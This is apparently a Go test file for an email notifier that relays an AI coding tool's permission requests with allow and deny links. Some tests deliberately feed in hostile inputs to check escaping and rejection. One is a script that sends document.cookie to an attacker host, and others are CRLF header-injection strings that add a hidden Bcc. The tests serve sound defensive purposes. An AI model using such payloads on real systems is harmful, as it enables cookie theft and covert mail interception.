package mail_test

import (
	"context"
	"errors"
	"html"
	"net"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"parley/reach"
	"parley/reach/mail"
	"parley/reach/mail/smtptest"
)

func ask() reach.Message {
	return reach.Message{
		Type: reach.TypeAsk, InputID: "in-9", Kind: "permission",
		Title:   "Claude wants to run Bash",
		Body:    "rm -rf build/ && make",
		Project: "web", Session: "Fix the login page",
		URL:     "https://parley.example/sessions/7#ask-in-9",
		Actions: []reach.Action{{ID: reach.ActAllow, Title: "Allow"}, {ID: reach.ActDeny, Title: "Deny"}},
	}
}

func answerLinks() []mail.Link {
	return []mail.Link{
		{Title: "Allow", URL: "https://parley.example/reach/a/tok-1?action=allow"},
		{Title: "Deny", URL: "https://parley.example/reach/a/tok-1?action=deny"},
	}
}

func config(t *testing.T, s *smtptest.Server) mail.Config {
	t.Helper()
	c, err := mail.ParseURL(s.URL())
	if err != nil {
		t.Fatal(err)
	}
	c.RootCAs = s.RootCAs()
	c.Timeout = 10 * time.Second
	return c
}

func next(t *testing.T, s *smtptest.Server) smtptest.Mail {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Second)
	defer cancel()
	m, err := s.Next(ctx)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func TestSendDelivers(t *testing.T) {
	s := smtptest.New(t)
	if err := mail.Send(t.Context(), config(t, s), "ann@example.com", ask(), answerLinks()); err != nil {
		t.Fatal(err)
	}
	got := next(t, s)
	if want := "[Parley] Claude wants to run Bash"; got.Subject != want {
		t.Errorf("subject = %q, want %q", got.Subject, want)
	}
	if diff := cmp.Diff([]string{"ann@example.com"}, got.To); diff != "" {
		t.Errorf("recipients (-want +got):\n%s", diff)
	}
	if got.From != smtptest.From || got.Header.Get("Auto-Submitted") != "auto-generated" {
		t.Errorf("from %q, Auto-Submitted %q", got.From, got.Header.Get("Auto-Submitted"))
	}
	wantText := []string{"rm -rf build/ && make", "web · Fix the login page",
		"Open the ask: https://parley.example/sessions/7#ask-in-9",
		"Allow: https://parley.example/reach/a/tok-1?action=allow",
		"Deny: https://parley.example/reach/a/tok-1?action=deny"}
	for _, w := range wantText {
		if !strings.Contains(got.Text, w) {
			t.Errorf("text lacks %q:\n%s", w, got.Text)
		}
	}
	page := html.UnescapeString(got.HTML)
	for _, w := range []string{"rm -rf build/ && make", "web · Fix the login page",
		`href="https://parley.example/sessions/7#ask-in-9"`,
		`href="https://parley.example/reach/a/tok-1?action=allow"`, `>Allow</a>`,
		`href="https://parley.example/reach/a/tok-1?action=deny"`, `>Deny</a>`} {
		if !strings.Contains(page, w) {
			t.Errorf("HTML lacks %q:\n%s", w, got.HTML)
		}
	}
}

func TestSendEscapesHTML(t *testing.T) {
	s := smtptest.New(t)
	m := ask()
	m.Body = `<script>fetch("https://evil.example/?c="+document.cookie)</script>`
	if err := mail.Send(t.Context(), config(t, s), "ann@example.com", m, nil); err != nil {
		t.Fatal(err)
	}
	got := next(t, s)
	if strings.Contains(got.HTML, "<script") {
		t.Errorf("HTML part has a live <script>:\n%s", got.HTML)
	}
	if !strings.Contains(got.HTML, "&lt;script&gt;") || !strings.Contains(got.Text, m.Body) {
		t.Errorf("the body is not shown as text:\nHTML %s\ntext %s", got.HTML, got.Text)
	}
}

func TestSendAnsweredIsNotMailed(t *testing.T) {
	s := smtptest.New(t)
	m := reach.Message{Type: reach.TypeAnswered, InputID: "in-9", Title: "Answered", By: "Ann"}
	if err := mail.Send(t.Context(), config(t, s), "ann@example.com", m, nil); err != nil {
		t.Fatal(err)
	}
	if s.Sessions() != 0 {
		t.Errorf("an answered message opened %d SMTP sessions, want 0", s.Sessions())
	}
}

func TestSendRefusesHeaderInjectionInTo(t *testing.T) {
	s := smtptest.New(t)
	for _, to := range []string{
		"ann@example.com\r\nBcc: eve@evil.example",
		"ann@example.com\nBcc: eve@evil.example",
		"ann@example.com, eve@evil.example",
		"",
	} {
		if err := mail.Send(t.Context(), config(t, s), to, ask(), nil); err == nil {
			t.Errorf("Send to %q: no error, want the address refused", to)
		}
	}
	if s.Sessions() != 0 {
		t.Errorf("%d SMTP sessions, want none for refused addresses", s.Sessions())
	}
}

func TestSendNeutralisesHeaderInjectionInTitle(t *testing.T) {
	s := smtptest.New(t)
	m := ask()
	m.Title = "Hi\r\nBcc: eve@evil.example\r\nX-Evil: 1\r\n\r\n<h1>fake body"
	if err := mail.Send(t.Context(), config(t, s), "ann@example.com", m, nil); err != nil {
		t.Fatal(err)
	}
	got := next(t, s)
	if diff := cmp.Diff([]string{"ann@example.com"}, got.To); diff != "" {
		t.Errorf("recipients (-want +got):\n%s", diff)
	}
	if got.Header.Get("Bcc") != "" || got.Header.Get("X-Evil") != "" {
		t.Errorf("injected headers arrived: %v", got.Header)
	}
	if strings.ContainsAny(got.Subject, "\r\n") {
		t.Errorf("subject %q has a line break", got.Subject)
	}
	if want := "[Parley] Hi Bcc: eve@evil.example X-Evil: 1 <h1>fake body"; got.Subject != want {
		t.Errorf("subject = %q, want %q", got.Subject, want)
	}
}

// A server that accepts the connection and never greets: Send gives up
// after its timeout.
func TestSendUnreachableTimesOut(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0") // never Accepts: the kernel completes the handshake
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	c := mail.Config{Host: "127.0.0.1", Port: ln.Addr().(*net.TCPAddr).Port, From: smtptest.From,
		TLS: mail.TLSNone, Timeout: 500 * time.Millisecond}
	start := time.Now()
	err = mail.Send(t.Context(), c, "ann@example.com", ask(), nil)
	if took := time.Since(start); err == nil || took > 5*time.Second {
		t.Errorf("Send to a silent server: err %v after %v, want an error after about 500ms", err, took)
	}
	// A closed port fails at once.
	ln.Close()
	if err := mail.Send(t.Context(), c, "ann@example.com", ask(), nil); err == nil {
		t.Error("Send to a closed port: no error")
	}
}

// Cancelling the context ends a send stuck after the dial, long before
// the timeout.
func TestSendHonoursContext(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	c := mail.Config{Host: "127.0.0.1", Port: ln.Addr().(*net.TCPAddr).Port, From: smtptest.From,
		TLS: mail.TLSNone, Timeout: 30 * time.Second}
	ctx, cancel := context.WithTimeout(t.Context(), 300*time.Millisecond)
	defer cancel()
	start := time.Now()
	err = mail.Send(ctx, c, "ann@example.com", ask(), nil)
	if took := time.Since(start); err == nil || took > 5*time.Second {
		t.Fatalf("Send with a context ending after 300ms: err %v after %v", err, took)
	}
	if !errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("err = %v, want it to wrap context.DeadlineExceeded", err)
	}
}
